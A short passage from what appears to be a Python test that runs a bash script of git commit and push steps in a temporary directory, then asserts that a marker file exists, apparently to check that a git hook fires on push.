        "echo a > a && git add a && git commit -qm a && git push -q -u origin main && "
        "echo b > a && git commit -qam b && rm ../ran && git push -q"
    )
    subprocess.run(["bash", "-c", script], cwd=tmp_path, env=env, check=True, capture_output=True)
    assert mark.exists()
